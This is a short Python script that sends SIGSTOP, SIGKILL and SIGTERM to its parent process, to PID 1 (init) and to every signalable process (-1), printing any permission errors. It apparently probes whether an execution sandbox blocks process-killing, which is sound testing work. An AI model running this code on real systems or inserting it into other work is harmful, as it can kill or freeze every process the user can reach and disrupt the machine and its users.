import os
import signal

for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
    for pid in (os.getppid(), 1, -1):
        try:
            if pid != -1 or number != signal.SIGSTOP:
                os.kill(pid, number)
        except OSError as error:
            print(error)
